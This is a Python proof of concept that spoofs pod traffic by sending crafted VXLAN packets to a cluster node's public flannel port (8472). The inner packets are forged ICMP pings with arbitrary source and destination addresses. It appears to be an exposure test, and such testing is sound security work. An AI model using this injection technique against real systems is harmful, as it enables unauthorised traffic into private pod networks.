"""What somebody outside can try on a machine: speak as a pod, in VXLAN packets to its public address.

Run in a client's place: outsider.py TARGET MAC SOURCE DESTINATION COUNT. The inner packets are pings.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys

VXLAN_PORT = 8472
# Of flannel's network, and the flag that says that a number follows.
VXLAN_HEADER = struct.pack("!BxxxI", 0x08, 1 << 8)


def checksum(data: bytes) -> int:
    """Give the Internet checksum of data of even length."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ping(source: str, destination: str, sequence: int) -> bytes:
    """Give an IPv4 packet that asks for an echo."""
    icmp = struct.pack("!BBHHH", 8, 0, 0, 0x6765, sequence)
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    ends = ipaddress.ip_address(source).packed + ipaddress.ip_address(destination).packed
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(icmp), sequence, 0, 64, 1, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + icmp


def frame(mac: str, packet: bytes) -> bytes:
    """Give an Ethernet frame for a MAC address."""
    return bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000001") + struct.pack("!H", 0x0800) + packet


def main(target: str, mac: str, source: str, destination: str, count: str) -> None:
    """Send the packets."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        for sequence in range(int(count)):
            one.sendto(VXLAN_HEADER + frame(mac, ping(source, destination, sequence)), (target, VXLAN_PORT))


if __name__ == "__main__":
    main(*sys.argv[1:])
